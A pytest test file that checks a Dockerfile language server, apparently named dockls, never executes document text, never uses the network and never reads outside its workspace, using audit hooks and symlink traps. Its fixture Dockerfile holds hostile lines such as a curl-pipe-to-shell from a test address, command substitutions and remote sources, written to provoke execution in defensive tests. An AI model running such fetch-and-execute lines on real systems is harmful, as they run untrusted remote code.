"""Security: dockls never executes anything from a document or the workspace, never uses the network,
reads files only inside the workspace (symlinks and ``..`` cannot lead out), and writes files only
through edits the client applies.

* End to end: the real server process runs under an audit hook (``sys.addaudithook``) that logs every
  file opened, directory listed, file-system change, process, socket and compilation to a file; a
  full session over stdio drives every feature on documents written to provoke execution, next to
  symlinks and configuration files that point out of the workspace. The log must show no process,
  no socket use, no write, and reads only inside the workspace or the Python installation.
* In process: the engine, every rule and every editor feature's pure functions over the corpus and
  the same documents, with process creation and the network patched to fail.
* The whole test process runs with the network patched to fail (``tests/conftest.py``).
"""

from __future__ import annotations

import asyncio
import json
import os
import site
import socket
import subprocess
import sys
import sysconfig
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from lsprotocol import types as lsp

import dockls
import dockls.rules
from dockls.buildcontext import CACHE, context_for, contexts_using
from dockls.checker import Checker
from dockls.completion import complete
from dockls.config import Configuration
from dockls.contexthover import copy_hover, ignore_hover
from dockls.engine import Analysis, Config, IgnoreAnalysis
from dockls.fixes import fix_all
from dockls.hover import hover
from dockls.inlays import inlay_hints
from dockls.links import document_links
from dockls.navigation import definitions, highlights, references, rename, rename_range
from dockls.refactor import refactorings
from dockls.symbols import document_symbols, folding_ranges
from dockls.text import LineIndex, Span
from dockls.tokens import semantic_tokens
from dockls.workspace import Workspace
from tests.conftest import NetworkUse
from tests.lsp_client import RecordingClient, capabilities, open_doc, units

MARKER = "dockls-security-marker"
SESSION_TIMEOUT = 180.0

# What a document may try: command substitution and backticks everywhere a shell or BuildKit could
# expand them, a remote frontend, remote sources, heredocs, and a directive pointing at a URL.
PROVOCATIONS = """# syntax=evil.invalid/frontend:latest
FROM alpine:3.19 AS build
ARG SUB=$(touch {pwned}-arg)
ARG TICK=`touch {pwned}-tick`
ENV PATH=$(touch {pwned}-env):$PATH
RUN $(touch {pwned}-run) && `touch {pwned}-tick2` && curl -fsSL http://192.0.2.1/x.sh | sh
RUN python3 -c "import os; os.system('touch {pwned}-py')" # {marker}
ADD https://192.0.2.1/archive.tar.gz /opt/
ADD git@github.invalid:evil/repo.git /src
COPY --from=evil.invalid/image:latest / /
COPY . /app
COPY escape/secret.txt /x
RUN <<EOF
touch {pwned}-heredoc
EOF
COPY <<EOF /etc/motd
$(touch {pwned}-copy-heredoc)
EOF
HEALTHCHECK CMD $(touch {pwned}-health)
ONBUILD RUN $(touch {pwned}-onbuild)
FROM build
CMD $(touch {pwned}-cmd)
"""
PLAIN = "FROM alpine:3.19\nWORKDIR /app\nCOPY . .\nRUN apk add curl\n"


def provocation(tmp_path: Path) -> str:
    return PROVOCATIONS.format(pwned=tmp_path / "pwned", marker=MARKER)


@dataclass
class Layout:
    """A workspace folder with symlinks and configuration pointing out of it, and what lies outside."""

    workspace: Path
    outside: Path
    dockerfile: Path  # the provocative Dockerfile at the workspace's root (its .dockerignore links out)
    nested: Path  # sub/Dockerfile: its configuration and compose files are links out of the workspace
    bare: Path  # app/Dockerfile: COPY . without an ignore file, so the fixes create one
    far: Path  # far/Dockerfile: its configured build context is outside the workspace
    composed: Path  # svc/Dockerfile: its compose service's context is outside the workspace


def layout(tmp_path: Path) -> Layout:
    outside, workspace = tmp_path / "outside", tmp_path / "ws"
    text = provocation(tmp_path)
    files = {
        outside / "secret.txt": "*\n!secret\n",
        outside / "tree" / "Dockerfile": text,
        outside / "tree" / "secret.txt": "secret\n",
        outside / "evil.toml": 'ignore = ["ALL"]\n',
        outside / "pyproject.toml": '[tool.dockls]\nignore = ["ALL"]\n',
        outside / ".hadolint.yaml": "ignored: [DL3018]\n",
        outside / "compose.yaml": "services:\n  x:\n    build: .\n",  # relative to the link
        # Above the workspace, where the upward searches would find them.
        tmp_path / ".dockls.toml": 'ignore = ["ALL"]\n',
        tmp_path / "pyproject.toml": '[tool.dockls]\nignore = ["ALL"]\n',
        tmp_path / ".hadolint.yaml": "ignored: [DL3018]\n",
        tmp_path / "compose.yaml": "services:\n  x:\n    build:\n      context: ws\n",
        workspace / "Dockerfile": text,
        workspace / "src" / "app.py": "print('hi')\n",
        workspace / ".hadolint.yaml": "ignored: [DL3018]\n",  # inside the folder; above sub/ (no folders)
        workspace / "sub" / "Dockerfile": text,
        workspace / "sub" / ".dockerignore": "*.log\n!keep.log\n",
        workspace / "app" / "Dockerfile": PLAIN,
        workspace / "app" / "main.py": "print('hi')\n",
        workspace / "far" / "Dockerfile": PLAIN,
        workspace / "svc" / "Dockerfile": PLAIN,
        workspace / "svc" / "compose.yaml": ("services:\n  x:\n    build:\n      context: ../../outside\n"
                                             "      dockerfile: ../ws/svc/Dockerfile\n"),
    }
    for path, content in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    links = {
        workspace / ".dockerignore": outside / "secret.txt",
        workspace / "escape": outside / "tree",
        workspace / "sub" / ".dockls.toml": outside / "evil.toml",
        workspace / "sub" / "pyproject.toml": outside / "pyproject.toml",
        workspace / "sub" / ".hadolint.yaml": outside / ".hadolint.yaml",
        workspace / "sub" / "compose.yaml": outside / "compose.yaml",
        workspace / "far" / "Dockerfile.dockerignore": outside / "secret.txt",
    }
    for link, target in links.items():
        link.symlink_to(target)
    return Layout(workspace, outside, workspace / "Dockerfile", workspace / "sub" / "Dockerfile",
                  workspace / "app" / "Dockerfile", workspace / "far" / "Dockerfile",
                  workspace / "svc" / "Dockerfile")


# --------------------------------------------------------------------------- the real server, audited

# Installs the audit hook, then runs the server as the `dockls` command does. Arguments: the log file
# and the marker whose presence in compiled source would mean document text was compiled.
HARNESS = '''
import json, os, sys, threading

log = open(sys.argv[1], "w", encoding="utf-8")
marker = sys.argv[2]
lock = threading.Lock()
inside = threading.local()
PREFIXES = ("os.", "shutil.", "socket.", "subprocess.", "ctypes.", "urllib.", "http.", "ftplib.", "smtplib.",
            "poplib.", "imaplib.", "nntplib.", "telnetlib.", "webbrowser.", "tempfile.", "pty.", "winreg.")


def plain(value):
    if isinstance(value, (bytes, os.PathLike)):
        return os.fsdecode(value)
    if value is None or isinstance(value, (str, int, float, bool)):
        return value
    if isinstance(value, (tuple, list)):
        return [plain(item) for item in value]
    return repr(value)[:200]


def hook(event, args):
    if getattr(inside, "busy", False) or not (event in ("open", "compile", "exec") or event.startswith(PREFIXES)):
        return
    inside.busy = True
    try:
        if event == "compile":
            source = args[0]
            text = source.decode("utf-8", "replace") if isinstance(source, bytes) else source
            args = [isinstance(text, str) and marker in text, plain(args[1])]
        elif event == "exec":
            args = [getattr(args[0], "co_filename", repr(args[0])[:200])]
        else:
            args = plain(list(args))
        with lock:
            log.write(json.dumps([event, args]) + "\\n")
            log.flush()
    finally:
        inside.busy = False


sys.addaudithook(hook)
from dockls.lsp import serve

serve()
'''

MUTATING = frozenset({
    "os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.symlink", "os.link", "os.truncate", "os.chmod",
    "os.chown", "os.chflags", "os.lchflags", "os.utime", "os.setxattr", "os.removexattr", "os.mkfifo",
    "os.mknod", "os.putenv", "os.unsetenv", "tempfile.mkstemp", "tempfile.mkdtemp",
})
PROCESSES = frozenset({
    "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty",
    "os.startfile", "os.kill", "os.killpg", "pty.spawn",
})
LISTING = frozenset({"os.listdir", "os.scandir", "os.walk", "os.fwalk"})
# Opening with any of these flags writes, creates or truncates.
WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND


def python_installation() -> list[str]:
    """Where the server may read besides the workspace: the interpreter's installation (standard
    library, site-packages: the installed dependencies and the editable install's finder), and dockls'
    own package and rule directories (an editable install imports them from the source tree, where
    the package data, base-images.json, also lives)."""
    places = {sys.prefix, sys.base_prefix, sys.exec_prefix, sys.base_exec_prefix,
              *(sysconfig.get_paths()[key] for key in ("stdlib", "platstdlib", "purelib", "platlib")),
              *site.getsitepackages(), site.getusersitepackages(),
              str(Path(dockls.__file__).parent), str(Path(dockls.rules.__file__).parent)}
    return [os.path.realpath(place) for place in places]


def audit_log(path: Path) -> list[list[Any]]:
    """The logged events, each ``[event, arguments]``."""
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def within(path: str, places: list[str]) -> bool:
    real = os.path.realpath(path)
    return any(real == place or real.startswith(place.rstrip(os.sep) + os.sep) for place in places)


def positions(text: str) -> Iterator[lsp.Position]:
    """Every line's start and end and a few columns in between (in UTF-16, VS Code's encoding)."""
    for number, line in enumerate(text.split("\n")):
        width = units(line, "utf-16")
        yield from (lsp.Position(number, column) for column in sorted({0, 2, 5, width // 2, width - 1, width})
                    if 0 <= column <= width)


async def exercise(client: RecordingClient, uri: str, text: str, kind: str = "dockerfile") -> None:
    """Every request the server answers, at positions all over the document."""
    open_doc(client, uri, text, kind)
    document = lsp.TextDocumentIdentifier(uri)
    report = await client.text_document_diagnostic_async(lsp.DocumentDiagnosticParams(document))
    assert isinstance(report, lsp.RelatedFullDocumentDiagnosticReport)
    lines = text.split("\n")
    whole = lsp.Range(lsp.Position(0, 0), lsp.Position(len(lines), 0))
    await client.text_document_document_symbol_async(lsp.DocumentSymbolParams(document))
    await client.text_document_folding_range_async(lsp.FoldingRangeParams(document))
    await client.text_document_semantic_tokens_full_async(lsp.SemanticTokensParams(document))
    await client.text_document_document_link_async(lsp.DocumentLinkParams(document))
    await client.text_document_inlay_hint_async(lsp.InlayHintParams(text_document=document, range=whole))
    for only in (None, [lsp.CodeActionKind.QuickFix], ["source.fixAll.dockls"], [lsp.CodeActionKind.Refactor]):
        await client.text_document_code_action_async(lsp.CodeActionParams(
            text_document=document, range=whole, context=lsp.CodeActionContext(
                diagnostics=report.items, only=only, trigger_kind=lsp.CodeActionTriggerKind.Invoked)))
    for position in positions(text):
        await client.text_document_hover_async(lsp.HoverParams(document, position))
        await client.text_document_completion_async(lsp.CompletionParams(document, position))
        if kind == "dockerfile":
            await client.text_document_definition_async(lsp.DefinitionParams(document, position))
            await client.text_document_references_async(lsp.ReferenceParams(
                context=lsp.ReferenceContext(include_declaration=True), text_document=document, position=position))
            await client.text_document_document_highlight_async(lsp.DocumentHighlightParams(document, position))
            if await client.text_document_prepare_rename_async(lsp.PrepareRenameParams(document, position)):
                await client.text_document_rename_async(lsp.RenameParams(
                    text_document=document, position=position, new_name="renamed"))


async def session(tmp_path: Path, folders: bool) -> tuple[Path, RecordingClient, Layout]:
    """A full session against the audited server; returns the audit log."""
    harness, log = tmp_path / "harness" / "serve.py", tmp_path / "harness" / "audit.jsonl"
    harness.parent.mkdir()
    harness.write_text(HARNESS)
    files = layout(tmp_path)
    client = RecordingClient()
    applied: list[lsp.ApplyWorkspaceEditParams] = []

    @client.feature(lsp.WORKSPACE_APPLY_EDIT)
    def apply_edit(params: lsp.ApplyWorkspaceEditParams) -> lsp.ApplyWorkspaceEditResult:
        applied.append(params)  # "applied", as an editor would say, but nothing is written
        return lsp.ApplyWorkspaceEditResult(applied=True)

    # -B: no bytecode is written for the modules the server imports (that is Python's cache, not dockls).
    await client.start_io(sys.executable, "-B", str(harness), str(log), MARKER, cwd=str(harness.parent))
    try:
        root = files.workspace.as_uri()
        settings = {"dockls": {"context": {"far/**": "../outside"}}}
        await client.initialize_session(lsp.InitializeParams(
            capabilities=capabilities("visual-studio-code"), initialization_options=settings,
            root_uri=root if folders else None,
            workspace_folders=[lsp.WorkspaceFolder(uri=root, name="ws")] if folders else None))
        text = provocation(tmp_path)
        documents = ([(files.dockerfile, text, "dockerfile"), (files.nested, text, "dockerfile"),
                      (files.bare, PLAIN, "dockerfile"), (files.far, PLAIN, "dockerfile"),
                      (files.composed, PLAIN, "dockerfile"), (files.workspace / ".dockerignore", "*\n", "ignore"),
                      (files.nested.parent / ".dockerignore", "*.log\n!keep.log\n", "ignore")]
                     if folders else [(files.nested, text, "dockerfile"),
                                      (files.nested.parent / ".dockerignore", "*.log\n", "ignore")])
        for path, content, kind in documents:
            await exercise(client, path.as_uri(), content, kind)
        if folders:
            await create_ignore_files(client, files, applied)
        client.workspace_did_change_watched_files(lsp.DidChangeWatchedFilesParams([
            lsp.FileEvent(files.workspace.joinpath(".dockerignore").as_uri(), lsp.FileChangeType.Changed),
            lsp.FileEvent(files.outside.joinpath("evil.toml").as_uri(), lsp.FileChangeType.Changed),
            lsp.FileEvent((tmp_path / "pyproject.toml").as_uri(), lsp.FileChangeType.Created),
        ]))
        client.workspace_did_change_configuration(lsp.DidChangeConfigurationParams(
            {"dockls": {"context": {"**": "../outside/tree"}}}))
        for path, content, kind in documents[:2]:
            await exercise(client, path.as_uri(), content, kind)
    finally:
        await client.shutdown_session()  # also after a failure: a server left running keeps stop() waiting
        await client.stop()
    return log, client, files


async def create_ignore_files(client: RecordingClient, files: Layout,
                              applied: list[lsp.ApplyWorkspaceEditParams]) -> None:
    """The fix and the command that create a .dockerignore hand the client a CreateFile edit."""
    uri = files.bare.as_uri()
    actions = await client.text_document_code_action_async(lsp.CodeActionParams(
        text_document=lsp.TextDocumentIdentifier(uri), range=lsp.Range(lsp.Position(0, 0), lsp.Position(4, 0)),
        context=lsp.CodeActionContext(diagnostics=[], only=[lsp.CodeActionKind.QuickFix])))
    creating = [action for action in actions or [] if isinstance(action, lsp.CodeAction) and action.edit
                and any(isinstance(change, lsp.CreateFile) for change in action.edit.document_changes or [])]
    assert creating, "the quick fix of dockerignore-missing creates the file through the client"
    command = "dockls.createDockerignore"
    result = await client.workspace_execute_command_async(lsp.ExecuteCommandParams(command, [uri]))
    assert result == {"created": (files.bare.parent / ".dockerignore").as_uri()}
    assert any(isinstance(change, lsp.CreateFile) for change in applied[-1].edit.document_changes or [])
    far = await client.workspace_execute_command_async(lsp.ExecuteCommandParams(command, [files.far.as_uri()]))
    assert far == {"created": None, "reason": "the build context is outside the workspace"}
    with pytest.raises(Exception, match="neither open nor a readable file in the workspace"):
        await client.workspace_execute_command_async(lsp.ExecuteCommandParams(
            command, [(files.outside / "tree" / "Dockerfile").as_uri()]))


@pytest.mark.parametrize("folders", [True, False], ids=["workspace-folders", "no-workspace-folders"])
async def test_server_executes_nothing_connects_nowhere_and_reads_only_the_workspace(
        tmp_path: Path, folders: bool) -> None:
    # Bounded, so that a server that wanders off (walking / through a link, say) fails instead of hanging.
    log, client, files = await asyncio.wait_for(session(tmp_path, folders), SESSION_TIMEOUT)
    events = audit_log(log)
    assert len(events) > 100, "the audit hook saw the server's imports and reads"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("pwned")) == []
    assert not (files.bare.parent / ".dockerignore").exists(), "the client, not the server, creates files"

    assert [event for event in events if event[0] in PROCESSES or event[0].startswith("subprocess.")] == []
    # asyncio's self-pipe is a Unix socket pair; nothing else may touch a socket.
    sockets = [event for event in events if event[0].startswith(("socket.", "urllib.", "http.", "ftplib.",
                                                                 "smtplib.", "webbrowser."))]
    assert [event for event in sockets if event[0] != "socket.__new__" or event[1][1] != socket.AF_UNIX] == []
    assert [event for event in events if event[0] in MUTATING or event[0].startswith("shutil.")] == []
    assert [event for event in events if event[0] == "compile" and event[1][0]] == [], \
        "no text of a document is ever compiled"

    # The workspace: the folder, or without folders the directory of the (one) checked document.
    workspace = [os.path.realpath(files.workspace if folders else files.nested.parent)]
    allowed = [*python_installation(), os.path.realpath(log.parent), *workspace]
    assert not within(str(files.outside), allowed) and not within(str(tmp_path / "compose.yaml"), allowed)
    writes = [event for event in events if event[0] == "open" and not isinstance(event[1][0], int)
              and ((event[1][2] or 0) & WRITE_FLAGS or any(c in (event[1][1] or "") for c in "wax+"))]
    assert [event for event in writes if event[1][0] != str(log)] == []
    reads = [event for event in events if event[0] == "open" and isinstance(event[1][0], str)]
    assert [event for event in reads if not within(event[1][0], allowed)] == []
    listings = [event for event in events if event[0] in LISTING]
    # Code run from a file comes from the installation (imports) or the harness; the rest is generated
    # by attrs, cattrs and dataclasses ("<…>" or ""), and none of it holds document text (see compile).
    assert [event for event in events if event[0] == "exec" and event[1][0] and not event[1][0].startswith("<")
            and not within(event[1][0], allowed)] == []
    assert [event for event in listings if not within(str(event[1][0]), allowed)] == []
    workspace_reads = {os.path.realpath(event[1][0]) for event in reads if within(event[1][0], workspace)}
    assert workspace_reads, "the server did read the workspace (so the test is not vacuous)"
    assert os.path.realpath(files.nested.parent / ".dockerignore") in workspace_reads
    if folders:
        assert str(files.workspace / ".hadolint.yaml") in workspace_reads
        shown = [message.message for message in client.log_messages]
        assert any("build context" in message and "outside the workspace" in message for message in shown)
    # ctypes may only look up the interpreter's own C API in the running process (the time budget
    # interrupts a worker thread with PyThreadState_SetAsyncExc): no library is loaded.
    assert [event for event in events if event[0] == "ctypes.dlopen" and event[1] != [None]] == []
    assert [event for event in events if event[0] == "ctypes.dlsym" and not event[1][1].startswith("Py")] == []
    other = {event[0] for event in events} - {"open", "compile", "exec", *LISTING, "socket.__new__"}
    assert other <= {"ctypes.dlopen", "ctypes.dlsym"}, other


# --------------------------------------------------------------------------- confinement, in process


@contextmanager
def no_processes_or_network() -> Iterator[list[str]]:
    """Process creation and network use patched to record the attempt and fail."""
    attempts: list[str] = []

    def refuse(name: str) -> Callable[..., Any]:
        def refused(*args: Any, **kwargs: Any) -> Any:
            attempts.append(name)
            raise AssertionError(f"{name} called")
        return refused

    targets: list[tuple[Any, str]] = [
        (subprocess, "Popen"), (subprocess, "run"), (os, "system"), (os, "popen"), (os, "fork"),
        (socket.socket, "connect"), (socket.socket, "connect_ex"), (socket, "create_connection"),
        (socket, "getaddrinfo"), (socket, "gethostbyname"),
        *((os, name) for name in dir(os) if name.startswith(("exec", "spawn", "posix_spawn"))),
    ]
    with pytest.MonkeyPatch.context() as patch:
        for owner, name in targets:
            patch.setattr(owner, name, refuse(name))
        yield attempts


def exercise_in_process(text: str, checker: Checker) -> None:
    """The engine, every rule, the fixes and every editor feature's pure functions on one text."""
    analysis = checker(text)
    fix_all(text, lambda fixed: checker(fixed).findings)
    if isinstance(analysis, IgnoreAnalysis):
        for offset in range(0, len(text) + 1, 3):
            ignore_hover(analysis.model, offset)
        return
    assert isinstance(analysis, Analysis)
    model, lines = analysis.model, LineIndex(text)
    document_symbols(model)
    folding_ranges(model, lines)
    semantic_tokens(model, lines)
    inlay_hints(model)
    document_links(model, checker.location.parent if checker.location else None)
    for offset in range(0, len(text) + 1, 7):
        hover(model, offset, analysis.findings)
        copy_hover(model, offset)
        complete(model, offset)
        definitions(model, offset)
        references(model, offset, True)
        highlights(model, offset)
        if rename_range(model, offset) is not None:
            rename(model, offset, "renamed")
        refactorings(model, Span(offset, min(len(text), offset + 40)))


def test_engine_rules_and_features_execute_nothing_on_provocations(tmp_path: Path) -> None:
    files = layout(tmp_path)
    workspace = Workspace.of([files.workspace])
    with no_processes_or_network() as attempts:
        for path in (files.dockerfile, files.nested, files.bare, files.far, files.composed):
            exercise_in_process(path.read_text(), Checker(Config(), path, workspace=workspace))
        exercise_in_process("*\n!x\n", Checker(Config(), files.workspace / ".dockerignore", ignore_file=True,
                                               workspace=workspace))
    assert attempts == []
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("pwned")) == []


def test_engine_rules_and_features_execute_nothing_on_the_corpus(corpus: list[Path]) -> None:
    with no_processes_or_network() as attempts:
        for path in corpus[::5]:
            exercise_in_process(path.read_bytes().decode("utf-8", errors="replace"), Checker(Config()))
    assert attempts == []


def test_the_test_process_cannot_reach_the_network() -> None:
    with pytest.raises(NetworkUse):
        socket.getaddrinfo("example.com", 443)
    with pytest.raises(NetworkUse), socket.socket() as sock:
        sock.connect(("192.0.2.1", 9))  # TEST-NET-1: refused before anything is sent
    with pytest.raises(NetworkUse):
        socket.create_connection(("192.0.2.1", 9), timeout=0.1)


# --------------------------------------------------------------------------- the read policy

_recording: list[list[str]] = []  # the lists of the opened() blocks in progress
_hooked: list[bool] = []  # whether the hook is installed (hooks cannot be removed: it is installed once)


def _record_opens(event: str, args: tuple[Any, ...]) -> None:
    if event == "open" and _recording and isinstance(args[0], (str, bytes, os.PathLike)):
        _recording[-1].append(os.fsdecode(args[0]))


@contextmanager
def opened() -> Iterator[list[str]]:
    """The files opened in this process during the block (by an audit hook that does nothing
    outside these blocks)."""
    if not _hooked:
        sys.addaudithook(_record_opens)
        _hooked.append(True)
    paths: list[str] = []
    _recording.append(paths)
    try:
        yield paths
    finally:
        _recording.remove(paths)


def test_workspace_allows_only_real_paths_inside_it(tmp_path: Path) -> None:
    files = layout(tmp_path)
    workspace = Workspace.of([files.workspace])
    assert workspace.allows(files.workspace) and workspace.allows(files.workspace / "src" / "app.py")
    assert workspace.allows(files.workspace / "missing" / "file")
    assert not workspace.allows(files.workspace / ".dockerignore")  # a link to outside/secret.txt
    assert not workspace.allows(files.workspace / "escape" / "secret.txt")
    assert not workspace.allows(files.workspace / ".." / "outside")
    assert not workspace.allows(str(files.workspace) + "-sibling")  # a prefix is not a parent
    assert not workspace.allows("/etc/passwd") and not workspace.allows("bad\0path")
    assert not Workspace.of([]).allows(files.workspace)
    linked = tmp_path / "linked-ws"
    linked.symlink_to(files.workspace)
    assert Workspace.of([linked]).allows(files.workspace / "src")  # the roots are real paths too


def test_configuration_files_outside_the_workspace_are_not_read(tmp_path: Path) -> None:
    files = layout(tmp_path)
    workspace = Workspace.of([files.workspace])
    configuration = Configuration()
    hadolint = files.workspace / ".hadolint.yaml"
    assert configuration.for_path(files.nested, workspace).files == (hadolint,)  # the links are passed over
    assert configuration.for_path(files.dockerfile, workspace).files == (hadolint,)  # not tmp_path's files
    assert configuration.for_path(files.nested, Workspace.of([files.nested.parent])).files == ()
    unconfined = configuration.for_path(files.nested).files  # the CLI: the links are followed
    assert unconfined == (files.nested.parent / ".hadolint.yaml", files.nested.parent / ".dockls.toml")


def test_build_contexts_outside_the_workspace_are_not_read(tmp_path: Path) -> None:
    files = layout(tmp_path)
    workspace = Workspace.of([files.workspace])
    CACHE.clear()
    own = Checker(Config(), files.dockerfile, workspace=workspace).build_context()
    assert own is not None and own.root == files.workspace and own.root_from == "dockerfile"  # not tmp_path's compose
    assert own.ignore_path == files.workspace / ".dockerignore" and own.ignore is None  # the link is not read
    assert "escape" in {file.path for file in own.walk().files}  # listed as a link, never followed
    assert not any(file.path.startswith("escape/") for file in own.walk().files)
    assert context_for(files.dockerfile).ignore is not None  # the CLI follows the link
    assert context_for(files.nested, workspace=workspace).root_from == "dockerfile"  # linked compose not read
    assert context_for(files.nested).root_from == "compose"
    assert Checker(Config(), files.composed, workspace=workspace).build_context() is None
    assert Checker(Config(), files.far, files.outside, workspace=workspace).build_context() is None
    far = Checker(Config(), files.far, workspace=workspace).build_context()
    assert far is not None and far.ignore is None  # far/Dockerfile.dockerignore links out
    unread = contexts_using(files.outside / ".dockerignore", workspace=workspace)
    assert [context.ignore for context in unread] == [None]


def test_ignore_document_reads_no_dockerfile_outside_the_workspace(tmp_path: Path) -> None:
    files = layout(tmp_path)
    linked = files.workspace / "sub" / "Dockerfile.linked"
    linked.symlink_to(files.outside / "tree" / "Dockerfile")
    checker = Checker(Config(), files.workspace / "sub" / ".dockerignore", ignore_file=True,
                      workspace=Workspace.of([files.workspace]))
    with opened() as paths:
        analysis = checker("*.log\n")
    assert isinstance(analysis, IgnoreAnalysis) and analysis.model.context is not None
    assert paths and all(within(path, [os.path.realpath(files.workspace)]) for path in paths)


def test_documents_outside_the_workspace_folders_are_checked_on_their_text_alone(tmp_path: Path) -> None:
    files = layout(tmp_path)
    outside = files.outside / "tree" / "Dockerfile"
    checker = Checker(Config(), outside, workspace=Workspace.of([files.workspace]))
    with opened() as paths:
        analysis = checker(PLAIN)
    assert isinstance(analysis, Analysis) and analysis.model.context is None and paths == []
